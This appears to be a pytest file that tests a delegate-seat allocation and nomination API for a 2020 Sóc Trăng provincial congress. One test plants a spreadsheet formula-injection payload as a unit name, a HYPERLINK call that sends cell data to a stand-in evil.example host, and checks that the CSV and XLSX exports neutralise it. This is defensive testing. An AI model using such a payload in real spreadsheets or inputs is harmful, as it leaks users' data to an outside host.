"""Sóc Trăng 2020: from the printed plan to adopted quotas and accepted nominees, over HTTP."""

import csv
from io import BytesIO
from zipfile import ZipFile

import httpx
import pytest
from python_calamine import load_workbook

from api.http.tables import CSV, XLSX
from service.formats.spreadsheets import unescape_formulas
from tests.client import Client
from tests.journeys.scenes import Prepare, Scene
from tests.journeys.soc_trang import (
    CONGRESS,
    compute_tied_allocation,
    draw_enterprises,
    load,
)
from tests.journeys.steps import (
    Json,
    accept_nominee,
    act_on_nomination,
    adopt_allocation,
    codes,
    compute_allocation,
    decision,
    draft_nomination,
    map_quotas,
    map_rows,
    person,
    report,
)


@pytest.fixture(scope="module")
def prepare() -> Prepare:
    """The congress, opened."""
    return load


@pytest.fixture
def congress(scene: Scene) -> Json:
    """The congress, with its plan and the ids of its units by code."""
    return scene.facts


async def test_from_the_plan_to_the_accepted_delegates(client: Client, congress: Json) -> None:
    units = congress["units"]
    lottery, justice = units["cong-ty-xo-so-kien-thiet"], units["so-tu-phap"]
    # A unit ranks its people before there are seats.
    first = await draft_nomination(client, congress, justice, rank=1, person=person(gender="female"))
    early = await act_on_nomination(client, first, "submission", 409)
    assert early.json()["code"] == "quota_missing"

    # The seats, computed and adopted; a tie is drawn for, and the leader's hand moves one seat.
    allocation = await draw_enterprises(client, congress, await compute_tied_allocation(client, congress))
    allocation = await _moved(client, congress, allocation, "so-noi-vu", "so-tu-phap")
    before = await map_rows(client, allocation.json())
    adoption = await adopt_allocation(client, allocation, "123")
    assert adoption["misfits"] == []
    assert adoption["allocation"]["decision"]["number"] == "123"
    quotas = await map_quotas(client, congress)
    assert {code: quota["seats"] for code, quota in quotas.items()} == {
        code: row["seats"] for code, row in before.items()
    }
    assert sum(quota["seats"] for quota in quotas.values()) == 280

    # Names: submitted within the limit, returned and sent again, accepted within the seats.
    seats = quotas["so-tu-phap"]["seats"]
    assert quotas["so-tu-phap"]["nominee_limit"] == seats
    sent = await act_on_nomination(client, first, "submission")
    back = await act_on_nomination(client, sent, "return", reason="Bổ sung thành tích")
    assert (back.json()["state"], back.json()["returned_reason"]) == ("returned", "Bổ sung thành tích")
    first = await act_on_nomination(client, await act_on_nomination(client, back, "submission"), "acceptance")
    assert (first.json()["state"], first.json()["list"]["seats"]) == ("accepted", seats)
    others = [await accept_nominee(client, congress, justice, rank=2 + n) for n in range(seats - 1)]
    surplus = await draft_nomination(client, congress, justice, rank=seats + 1)
    refused = await act_on_nomination(client, surplus, "submission", 409)
    assert refused.json()["code"] == "quota_nominee_limit_exceeded"
    await act_on_nomination(client, others[0], "withdrawal", reason="Xin rút")
    surplus = await act_on_nomination(
        client, await act_on_nomination(client, surplus, "submission"), "acceptance"
    )

    # A collective sends somebody else.
    group = await accept_nominee(client, congress, lottery, collective="Phòng Kinh doanh (ví dụ)")
    changed = await act_on_nomination(
        client, group, "representative", person=person(gender="male"), reason="Ốm"
    )
    assert changed.json()["collective"] == group.json()["collective"]
    assert changed.json()["person"] != group.json()["person"]
    assert changed.json()["state"] == "accepted"

    # The justice department turns out to be far smaller: the amendment names its list and cuts nobody.
    await report(client, justice, staff=2)
    amended = await compute_allocation(
        client, congress, amends=allocation.json()["id"], reason="Đính chính số liệu"
    )
    amended = await draw_enterprises(client, congress, amended)
    after = await adopt_allocation(client, amended, "130")
    (misfit,) = after["misfits"]
    assert misfit == {
        "unit": justice,
        "group": "dien-hinh",
        "seats": 1,
        "taken": seats,
        "nominee_limit": 1,
        "nominated": seats,
    }
    versions = await client.list_all(f"/v1/conferences/{congress['id']}/allocations")
    assert [version["state"] for version in versions] == ["superseded", "adopted"]
    assert (await map_quotas(client, congress))["so-tu-phap"]["misfit"]["taken"] == seats
    still = await client.get(f"/v1/nominations/{surplus.json()['id']}")
    assert still.json()["state"] == "accepted"

    # Whoever asks later finds every act in one unbroken chain.
    chain = f"/v1/audit_events?chain={congress['plan']['id']}"
    acts = [event["act"] for event in await client.list_all(chain)]
    assert acts.count("allocation_adopted") == 2
    assert acts.count("representative_changed") == 1
    assert acts.index("plan_published") < acts.index("conference_opened") < acts.index("tie_settled")
    verified = await client.get(f"/v1/audit_events/verification?chain={congress['plan']['id']}")
    assert (verified.json()["events"], verified.json()["broken_at"]) == (len(acts), None)


async def test_ii_2_d_the_congress_has_ten_groups_within_500(congress: Json) -> None:
    assert (congress["form"], congress["terms"]["cap"]) == ("delegate", 500)
    assert congress["name"] == "Đại hội thi đua yêu nước tỉnh Sóc Trăng lần thứ V"
    groups = congress["seat_groups"]
    assert len(groups) == 10
    assert sum(group["seats"] for group in groups) == 495
    assert [group["group"] for group in groups if group["filled_by"] == "units"] == ["dien-hinh"]


async def test_the_congress_is_allocated_over_its_real_units(client: Client, congress: Json) -> None:
    allocation = (await compute_allocation(client, congress)).json()
    rows = await map_rows(client, allocation)
    assert allocation["state"] == "decided"
    assert allocation["totals"] == [{"group": "dien-hinh", "units": 68, "computed": 280, "seats": 280}]
    assert sum(row["seats"] for row in rows.values() if row["bloc"] == "huyen-thi") == 96
    assert {row["seats"] for row in rows.values() if row["bloc"] == "vu-trang"} == {3}
    assert all(row["seats"] >= row["floor"] for row in rows.values())
    assert all(row["cap"] is None or row["seats"] <= row["cap"] for row in rows.values())
    assert not rows["huyen-chau-thanh"]["made_up"]  # the census is real
    assert rows["so-tu-phap"]["made_up"]  # the staff is not


async def test_the_seats_come_as_a_table_too(client: Client, congress: Json) -> None:
    allocation = (await compute_allocation(client, congress)).json()
    path = f"/v1/allocations/{allocation['id']}/seats"
    table = await client.get(path, headers={"Accept": "text/csv"})
    assert table.headers["content-type"].startswith("text/csv")
    lines = table.content.decode("utf-8-sig").splitlines()
    assert len(lines) == 1 + 68
    (line,) = [line for line in lines if line.startswith("huyen-chau-thanh;Huyện Châu Thành;")]
    assert ";Đại diện các tập thể và cá nhân là các gương điển hình tiên tiến;Khối các huyện" in line
    assert ";Dân số;95188;7,58936;" in line
    book = await client.get(
        path, headers={"Accept": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
    )
    assert book.content.startswith(b"PK")


async def test_a_unit_that_calls_itself_a_formula_is_a_name_in_every_table(
    client: Client, congress: Json
) -> None:
    name = '=HYPERLINK("https://evil.example?"&B2,"x");@SUM(A1)'
    unit = {"code": "so-thu-nghiem", "name": name, "kind": "department", "valid_from": "2020-01-01"}
    made = await client.post("/v1/units", {**unit, "parents": {CONGRESS: "tinh-soc-trang"}, "made_up": True})
    await report(client, made.json()["id"], staff=100)
    path = f"/v1/allocations/{(await compute_allocation(client, congress)).json()['id']}/seats"
    table = (await client.get(path, headers={"Accept": CSV})).content
    rows = csv.reader(table.decode("utf-8-sig").splitlines(), delimiter=";")
    (cell,) = [row[1] for row in rows if "evil" in row[1]]
    assert cell == '\'=HYPERLINK("https://evil.example?"&B2,"x");\'@SUM(A1)'
    assert unescape_formulas(cell) == name
    book = (await client.get(path, headers={"Accept": XLSX})).content
    assert name in [row[1] for row in load_workbook(BytesIO(book)).get_sheet_by_index(0).to_python()]
    assert b"<f" not in ZipFile(BytesIO(book)).read("xl/worksheets/sheet1.xml")


async def test_missing_figures_stop_the_allocation_and_name_the_units(client: Client, congress: Json) -> None:
    for n in (1, 2):
        unit = {
            "code": f"so-thu-nghiem-{n}",
            "name": f"Sở thử nghiệm {n}",
            "kind": "department",
            "valid_from": "2020-01-01",
            "parents": {CONGRESS: "tinh-soc-trang"},
            "made_up": True,
        }
        await client.post("/v1/units", unit)
    path = f"/v1/conferences/{congress['id']}/allocations"
    refused = (await client.post(path, {}, 409)).json()
    assert refused["code"] == "allocation_cannot_start"
    assert [error["params"]["unit"] for error in refused["errors"]] == ["so-thu-nghiem-1", "so-thu-nghiem-2"]
    assert set(codes(refused["errors"])) == {"figure_unknown"}
    assert await client.list_all(path) == []


async def test_figures_of_two_days_that_cannot_both_hold_stop_the_allocation_too(
    client: Client, congress: Json
) -> None:
    """A new total below the women of an older report: no target could be split by it."""
    body = {"as_of": "2020-05-31", "source": "Thử nghiệm", "figures": {"staff": 3}, "made_up": True}
    await client.post(f"/v1/units/{congress['units']['so-tu-phap']}/figures", body)
    path = f"/v1/conferences/{congress['id']}/allocations"
    refused = (await client.post(path, {}, 409)).json()
    at_odds = {(e["code"], e["params"]["unit"], e["params"]["measure"]) for e in refused["errors"]}
    assert ("figures_at_odds", "so-tu-phap", "staff.women") in at_odds
    assert {unit for _, unit, _ in at_odds} == {"so-tu-phap"}
    assert await client.list_all(path) == []


async def test_hand_adjustments_must_balance_before_the_proposal(client: Client, congress: Json) -> None:
    allocation = await compute_allocation(client, congress)
    path = f"/v1/allocations/{allocation.json()['id']}"
    body = {"unit": congress["units"]["so-noi-vu"], "group": "dien-hinh", "adjustment": 1, "reason": "Thêm"}
    adjusted = await client.act(f"{path}/adjustments", allocation.headers["ETag"], body)
    refused = (await client.act(f"{path}/proposal", adjusted.headers["ETag"], {}, 409)).json()
    assert refused["errors"][0]["params"] == {"group": "dien-hinh", "by": 1}
    row = (await map_rows(client, allocation.json()))["so-noi-vu"]
    assert (row["seats"], row["adjustment"], row["adjusted_by"]) == (row["computed"] + 1, 1, "local")
    back = await client.act(f"{path}/adjustments", adjusted.headers["ETag"], {**body, "adjustment": 0})
    await client.act(f"{path}/proposal", back.headers["ETag"])


async def test_an_adjustment_beyond_the_plans_bounds_is_recorded_and_told(
    client: Client, congress: Json
) -> None:
    allocation = await compute_allocation(client, congress)
    path = f"/v1/allocations/{allocation.json()['id']}/adjustments"
    small = (await map_rows(client, allocation.json()))["so-noi-vu"]
    body = {"unit": small["unit"]["id"], "group": "dien-hinh", "reason": "Thử nghiệm"}
    found = await client.act(path, allocation.headers["ETag"], {**body, "adjustment": -small["computed"]})
    assert "adjusted_below_floor" in codes(found.json())
    refused = await client.act(path, found.headers["ETag"], {**body, "adjustment": -99}, 422)
    assert refused.json()["errors"][0]["pointer"] == "/adjustment"


async def test_a_proposal_can_be_taken_back_and_worked_on(client: Client, congress: Json) -> None:
    allocation = await compute_allocation(client, congress)
    path = f"/v1/allocations/{allocation.json()['id']}"
    proposed = await client.act(f"{path}/proposal", allocation.headers["ETag"])
    frozen = {"unit": congress["units"]["so-noi-vu"], "group": "dien-hinh", "adjustment": 1, "reason": "Muộn"}
    refused = await client.act(f"{path}/adjustments", proposed.headers["ETag"], frozen, 409)
    assert refused.json()["code"] == "allocation_state"
    back = await client.act(f"{path}/withdrawal", proposed.headers["ETag"], {"reason": "Xem lại"})
    assert (back.json()["state"], back.json()["proposed_by"]) == ("decided", None)
    await client.act(f"{path}/adjustments", back.headers["ETag"], frozen)


async def test_two_decisions_of_one_number_are_one_too_many(client: Client, congress: Json) -> None:
    allocation = await compute_allocation(client, congress)
    await adopt_allocation(client, allocation, "123")
    second = await compute_allocation(client, congress, amends=allocation.json()["id"], reason="Sửa")
    path = f"/v1/allocations/{second.json()['id']}"
    proposed = await client.act(f"{path}/proposal", second.headers["ETag"])
    approved = await client.act(f"{path}/approval", proposed.headers["ETag"])
    await client.act(f"{path}/adoption", approved.headers["ETag"], decision("123"), 409)
    states = [row["state"] for row in await client.list_all(f"/v1/conferences/{congress['id']}/allocations")]
    assert states == ["adopted", "approved"]


async def test_window_a_congress_that_slips_is_recorded_with_its_reason(
    client: Client, congress: Json
) -> None:
    # Planned for the third quarter of 2020, it met on 2 October.
    path = f"/v1/conferences/{congress['id']}"
    etag = (await client.get(path)).headers["ETag"]
    refused = (await client.act(f"{path}/holding", etag, {"on": "2020-10-02"}, 422)).json()
    assert refused["errors"][0]["pointer"] == "/reason"
    held = await client.act(f"{path}/holding", etag, {"on": "2020-10-02", "reason": "Dịch bệnh"})
    assert (held.json()["state"], held.json()["held_on"]) == ("held", "2020-10-02")
    (late,) = [finding for finding in held.json()["findings"] if finding["code"] == "outside_window"]
    assert late["clause"] == "ii.2.d.thoi-gian"


async def test_a_conference_given_up_makes_room_for_another(client: Client, congress: Json) -> None:
    path = f"/v1/conferences/{congress['id']}"
    again = {k: congress[k] for k in ("congress", "unit", "tier")} | {"plan": congress["plan"]["id"]}
    await client.post("/v1/conferences", again, 409)
    await client.act(f"{path}/cancellation", (await client.get(path)).headers["ETag"], {"reason": "Hoãn"})
    await client.post(f"{path}/allocations", {}, 409)
    await client.post("/v1/conferences", again)


async def _moved(
    client: Client, congress: Json, allocation: httpx.Response, source: str, target: str
) -> httpx.Response:
    """One seat from a unit to another, by hand and with the reason."""
    path = f"/v1/allocations/{allocation.json()['id']}"
    etag = allocation.headers["ETag"]
    for code, by in ((source, -1), (target, 1)):
        body = {"unit": congress["units"][code], "group": "dien-hinh", "adjustment": by, "reason": "Cân đối"}
        etag = (await client.act(f"{path}/adjustments", etag, body)).headers["ETag"]
    return await client.get(path)
